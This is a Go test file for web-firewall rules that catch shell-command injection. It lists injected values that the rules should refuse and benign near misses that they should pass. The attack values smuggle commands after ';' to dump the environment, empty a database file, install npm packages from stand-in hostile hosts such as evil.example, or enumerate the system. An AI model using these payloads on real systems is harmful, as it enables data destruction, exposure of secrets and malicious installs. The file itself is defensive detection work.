package waf

import (
	"strings"
	"testing"
)

// review91EnvDump are the review's environment dumps that passed 210223
// (each printed the environment on bash): a reserved word or nohup
// before typeset, its option quoted.
var review91EnvDump = []string{"x;time typeset -p", "x;! typeset -p", "x;typeset -'p'", "x;typeset '-p'", "x; time -p typeset -x",
	"x; ! typeset", "x;typeset \"-x\"", "x;typeset \\-p"}

// review91EnvDumpBenign are near misses: a reserved word before a
// declaration or prose.
var review91EnvDumpBenign = []string{"x; time typeset -i n", "x; ! typeset is a word", "x; typeset '-i' n", "Tip; time to typeset the book"}

// review91Truncate are the review's truncations that passed 210224
// (each emptied the file on bash): true, false, echo or : (quoted or
// escaped) before the redirection.
var review91Truncate = []string{"x;true>db.sqlite", "x;false>db.sqlite", "x;\\:>db.sqlite", "x;':'>db.sqlite",
	"x; true > /var/lib/app/db.sqlite", "x;\":\">db.sqlite", "x; : > db.sqlite"}

// review91TruncateBenign are near misses: prose after true or echo.
var review91TruncateBenign = []string{"It is true; false > 5 times"}

// review91TruncateCRS are those the CRS alone refuses in an argument.
var review91TruncateCRS = []string{"x;echo>db.sqlite"}

// review91TruncateProseCRS are near misses the CRS alone refuses in an
// argument (true and echo after a ';'), read by 210224 alone.
var review91TruncateProseCRS = []string{"x; true > false", "x; echo > 3 items", "x; echo hi > notes", "so; true is true"}

// review91Install are the review's installs that passed 210226: an
// option and its value before the verb, npm's install-test and other
// aliases, owner/repo#ref, assignments before npm, a registry set by
// the environment.
var review91Install = []string{"x;npm --prefix /tmp i https://e/x.tgz", "x;npm it github:evil/pkg", "x;npm i evil/pkg#main",
	"x;FOO=1 npm i github:evil/pkg", "x;npm_config_registry=http://evil.example/ npm i evil-pkg", "x;npm install-test github:evil/pkg",
	"x;npm isntall github:evil/pkg", "x;npm in github:evil/pkg", "x;npm add github:evil/pkg", "x;npm -C /tmp i github:evil/pkg",
	"x;npm --registry http://evil.example/ i evil-pkg", "x;npm -w app i https://e/x.tgz", "x;npm i ./evil.tgz"}

// review91InstallCRS are those the CRS alone refuses in an argument.
var review91InstallCRS = []string{"x;npm --cache /tmp/c i file:/tmp/x", "x;npm i /tmp/evil"}

// review91InstallBenign are the review's false positives: relative
// local paths in monorepo instructions, and near misses.
var review91InstallBenign = []string{"Q&A; npm i ../local-lib is fine?", "Steps; npm install ./packages/core", "Monorepo | npm i ./shared | works",
	"cd frontend && npm install ../shared-lib", "git clone https://github.com/u/r && npm i ./r", "x; npm --prefix ./app i lodash",
	"x; npm it lodash", "x; FOO=1 npm i lodash", "x; npm i react@18.2.0"}

// review91Sys are the review's commands that passed 210227:
// assignments before lsof, du with an option and an absolute path.
var review91Sys = []string{"x;FOO=1 lsof", "x; du -a /home", "x; du -sh /"}

// review91SysCRS are those the CRS alone refuses in an argument.
var review91SysCRS = []string{"x;LANG=C FOO=\"a b\" lsof -i"}

// review91SysBenign are the review's false positives: ss and du in
// prose.
var review91SysBenign = []string{"Disk full; du -sh shows 90%", "FYI; ss -s", "x; ss -a", "I ran du -h; du -sh * too", "Server slow; ss -s shows 20k sockets",
	"x; du -h", "x; du -sh ./build is big"}

// TestReview91Shell: rules 210223, 210224, 210226 and 210227 refuse
// what the review of attacks 90 and 91's rules ran on bash and npm and
// passed, in the query and JSON, and pass its false positives.
func TestReview91Shell(t *testing.T) {
	// every reading stays in its windows
	for _, v := range []string{"x;npm " + strings.Repeat("--prefix a ", 20) + "i github:e/p", "x; " + strings.Repeat("time ", 40) + "typeset",
		"x;" + strings.Repeat("A=1 ", 40) + "lsof", "x;" + strings.Repeat("A=1 ", 40) + "npm i github:e/p",
		strings.Repeat("x;time ", 5000), strings.Repeat("x;npm --prefix ", 5000), strings.Repeat("x;true", 5000), strings.Repeat("x;du -a ", 5000)} {
		if shellEnvDump(v) || shellTruncate(v) || shellPkgInstall(v) || shellSysCommand(v) {
			t.Errorf("a rule reads past its window in %.40q", v)
		}
	}
	// each rule's reading first, then through Caddy (operatorTable)
	for _, c := range []struct {
		rule            string
		op              func(string) bool
		attacks, benign []string
	}{{"210223", shellEnvDump, review91EnvDump, review91EnvDumpBenign},
		{"210224", shellTruncate, concat(review91Truncate, review91TruncateCRS), concat(review91TruncateBenign, review91TruncateProseCRS)},
		{"210226", shellPkgInstall, concat(review91Install, review91InstallCRS), review91InstallBenign},
		{"210227", shellSysCommand, concat(review91Sys, review91SysCRS), review91SysBenign}} {
		for _, v := range c.attacks {
			if !c.op(v) {
				t.Errorf("%s misses %q", c.rule, v)
			}
		}
		for _, v := range c.benign {
			if c.op(v) {
				t.Errorf("%s matches the benign %q", c.rule, v)
			}
		}
	}
	if t.Failed() {
		return
	}
	operatorTable(t, "210223", shellEnvDump, review91EnvDump, nil, review91EnvDumpBenign)
	operatorTable(t, "210224", shellTruncate, review91Truncate, review91TruncateCRS, review91TruncateBenign)
	operatorTable(t, "210226", shellPkgInstall, review91Install, review91InstallCRS, review91InstallBenign)
	operatorTable(t, "210227", shellSysCommand, review91Sys, review91SysCRS, review91SysBenign)
}

// FuzzReview91Shell: any value is read by the four rules without a panic.
func FuzzReview91Shell(f *testing.F) {
	for _, v := range concat(review91EnvDump, review91Truncate, review91Install, review91Sys, review91InstallBenign, review91SysBenign) {
		f.Add(v)
	}
	f.Fuzz(func(t *testing.T, v string) {
		shellEnvDump(v)
		shellTruncate(v)
		shellPkgInstall(v)
		shellSysCommand(v)
	})
}
